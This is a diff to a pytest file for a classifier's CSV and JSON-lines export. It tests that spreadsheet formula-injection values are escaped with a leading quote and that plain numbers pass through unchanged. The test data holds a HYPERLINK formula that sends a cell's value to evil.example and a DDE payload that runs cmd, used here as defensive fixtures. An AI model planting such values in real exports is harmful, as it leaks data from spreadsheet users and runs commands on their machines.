@@ -22,7 +22,8 @@ from .conftest import CONFIGS, REPO_ROOT
 
 # Labels and ids a spreadsheet would run as formulas (OWASP's examples).
 LABELS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)"]
-HOSTILE_IDS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1+2", "\tTAB", "\rCR", '=HYPERLINK("x")']
+HOSTILE_IDS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd", "-1+2", "\tTAB", "\rCR", '=HYPERLINK("x")']
+PLAIN_NUMBERS = ["-7", "+2.5"]  # ids a spreadsheet reads as the numbers they are: kept
 WORDS = {
     LABELS[0]: "wheat grain tonnes export harvest crop maize barley",
     LABELS[1]: "shares bank profit dividend merger stock quarter earnings",
@@ -108,7 +109,8 @@ def read_csv(path: Path) -> list[dict]:
 
 @pytest.fixture()
 def hostile_input(tmp_path: Path) -> Path:
-    rows = [{"id": identifier, "body": WORDS[LABELS[i % 2]]} for i, identifier in enumerate([*HOSTILE_IDS, "plain"])]
+    identifiers = [*HOSTILE_IDS, *PLAIN_NUMBERS, "plain"]
+    rows = [{"id": identifier, "body": WORDS[LABELS[i % 2]]} for i, identifier in enumerate(identifiers)]
     return write_rows(tmp_path / "in.csv", rows)
 
 
@@ -119,7 +121,7 @@ def test_csv_cells_that_are_formulas_are_escaped_and_json_lines_stay_raw(
     status, _, err = on_file(capsys, checkpoint, hostile_input, output, *AS_TRAINED)
     assert status == 0, err
     rows = read_csv(output)
-    assert [row["id"] for row in rows] == ["'" + identifier for identifier in HOSTILE_IDS] + ["plain"]
+    assert [row["id"] for row in rows] == ["'" + identifier for identifier in HOSTILE_IDS] + [*PLAIN_NUMBERS, "plain"]
     for row in rows:  # every label cell starts with = or @ raw: each is shown as text
         assert all(row[cell][:2] in ("'=", "'@") for cell in ("labels", "top_1", "top_2"))
         assert row["labels"][1:] in LABELS and float(row["p_1"]) > 0 and row["reason"] == ""
@@ -128,7 +130,7 @@ def test_csv_cells_that_are_formulas_are_escaped_and_json_lines_stay_raw(
     status, _, err = on_file(capsys, checkpoint, hostile_input, jsonl, *AS_TRAINED)
     assert status == 0, err
     records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
-    assert [record["id"] for record in records] == [*HOSTILE_IDS, "plain"]
+    assert [record["id"] for record in records] == [*HOSTILE_IDS, *PLAIN_NUMBERS, "plain"]
     assert all(record["labels"][0] in LABELS and record["reason"] is None for record in records)
 
 
@@ -139,7 +141,8 @@ def test_csv_formulas_keep_writes_cells_as_they_are(
     status, _, err = on_file(capsys, checkpoint, hostile_input, output, "--csv_formulas", "keep")
     assert status == 0, err
     rows = read_csv(output)
-    assert [row["id"] for row in rows] == [*HOSTILE_IDS, "plain"] and all(row["labels"] in LABELS for row in rows)
+    assert [row["id"] for row in rows] == [*HOSTILE_IDS, *PLAIN_NUMBERS, "plain"]
+    assert all(row["labels"] in LABELS for row in rows)
 
     status, _, err = on_file(capsys, checkpoint, hostile_input, tmp_path / "o2.csv", "--csv_formulas", "maybe")
     assert_refused(status, err, "--csv_formulas maybe", "escape", "keep")
